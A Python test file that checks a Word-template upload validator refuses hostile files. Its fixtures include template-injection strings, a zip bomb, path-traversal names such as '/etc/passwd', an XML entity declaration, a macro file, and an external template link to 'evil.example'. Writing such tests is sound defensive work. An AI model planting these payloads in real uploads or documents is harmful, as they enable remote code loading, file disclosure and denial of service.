"""Templates from outside: what is refused, and by which sentence."""

import io
import zipfile

import pytest
from docx import Document

from casework.adapters.template_files import read_template
from casework.documents.letters.base import PageStyle, standard_template
from casework.documents.letters.check import check_fields
from casework.documents.letters.layout import Faces
from casework.law.errors import Refused
from casework.law.letters.kinds import LETTER_KINDS, TEMPLATE_KINDS

GOOD = ("{{ 文号 }}", "{{ 称谓 }}", "{{ 正文 }}", "{{ 署名 }}", "{{ 日期 }}")


def docx(*lines: str, extra: dict[str, bytes] | None = None) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    stream = io.BytesIO()
    document.save(stream)
    if extra:
        with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
            for name, data in extra.items():
                archive.writestr(name, data)
    return stream.getvalue()


def refusal_of(data: bytes, name: str = "答复书.docx", kind: str = "reply", size: int | None = None) -> Refused:
    with pytest.raises(Refused) as refusal:
        check_fields(kind, read_template(name, len(data) if size is None else size, io.BytesIO(data)))
    return refusal.value


def test_a_plain_template_with_the_fields_is_taken():
    data = docx(*GOOD)
    check_fields("reply", read_template("答复书.docx", len(data), io.BytesIO(data)))


@pytest.mark.parametrize("kind", TEMPLATE_KINDS)
def test_the_standard_template_passes_its_own_check(kind):
    form = kind != "reply" and not LETTER_KINDS[kind].series
    for style in [PageStyle.FORM] if form else [PageStyle.PLAIN, PageStyle.LETTERHEAD]:
        check_fields(kind, standard_template(style, Faces()))


@pytest.mark.parametrize("missing", GOOD)
def test_a_missing_field_is_named(missing):
    refusal = refusal_of(docx(*(line for line in GOOD if line != missing)))
    assert refusal.code == "template_field_missing" and missing in refusal.sentence


def test_the_sections_one_by_one_stand_for_the_whole_text():
    names = ["事实", "申请内容", "查明", "决定", "补充说明", "救济", "结尾"]
    lines = [line for line in GOOD if "正文" not in line]
    check_fields("reply", docx(*lines, *(f"{{{{ {name} }}}}" for name in names)))
    refusal = refusal_of(docx(*lines, *(f"{{{{ {name} }}}}" for name in names if name != "救济")))
    assert refusal.code == "template_field_missing" and "正文" in refusal.sentence


def test_an_unknown_field_is_named():
    refusal = refusal_of(docx(*GOOD, "{{ 申请人电话 }}"))
    assert refusal.code == "template_field_unknown" and "“申请人电话”" in refusal.sentence


def test_a_field_without_its_second_brace_is_named():
    assert refusal_of(docx(*GOOD, "{{ 机关 ")).code == "template_field_broken"


@pytest.mark.parametrize(
    "line",
    [
        "{{ 标题.__class__ }}",
        "{{ 标题|upper }}",
        "{{ 7*7 }}",
        "{% for x in range(100000) %}{% endfor %}",
        "{% set a = 1 %}",
        "{{ 表.__init__ }}",
        "{% include 'x' %}",
    ],
)
def test_orders_are_refused(line):
    assert refusal_of(docx(*GOOD, line)).code == "template_not_plain"


def test_a_macro_enabled_file_is_refused_by_its_name_and_by_its_content():
    assert refusal_of(docx(*GOOD), name="答复书.docm").code == "template_ending"
    refusal = refusal_of(docx(*GOOD, extra={"word/vbaProject.bin": b"x"}))
    assert refusal.code == "template_macros" and "宏" in refusal.sentence


def test_fifty_megabytes_are_refused_unread():
    class Unread(io.BytesIO):
        def read(self, *args):
            raise AssertionError("it must not be read")

    with pytest.raises(Refused) as refusal:
        read_template("答复书.docx", 50 * 1024 * 1024, Unread())
    assert refusal.value.code == "template_too_large" and "50.0MB" in refusal.value.sentence


def test_a_zip_bomb_is_refused():
    refusal = refusal_of(docx(*GOOD, extra={"word/media/a.bin": b"\0" * (30 * 1024 * 1024)}))
    assert refusal.code == "template_bomb"


@pytest.mark.parametrize("name", ["../答复书.docx", "..\\答复书.docx", "a/b.docx", "/etc/x.docx"])
def test_a_path_in_the_file_name_is_refused(name):
    refusal = refusal_of(docx(*GOOD), name=name)
    assert refusal.code == "template_name" and "路径" in refusal.sentence


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/passwd", "word\\..\\x", "C:/x"])
def test_a_path_inside_the_file_is_refused(name):
    assert refusal_of(docx(*GOOD, extra={name: b"x"})).code == "template_part_path"


def test_entities_and_links_to_the_outside_are_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert refusal_of(docx(*GOOD, extra={"word/custom.xml": bomb})).code == "template_entities"
    link = (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    assert refusal_of(docx(*GOOD, extra={"word/_rels/settings.xml.rels": link})).code == "template_outside"


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 broken", b"%PDF-1.7", b"\xd0\xcf\x11\xe0 old word"])
def test_what_is_no_word_file_is_refused(data):
    assert refusal_of(data).code in {"template_broken", "template_not_word"}


def test_a_sheet_is_no_letter():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert refusal_of(stream.getvalue()).code == "template_not_word"
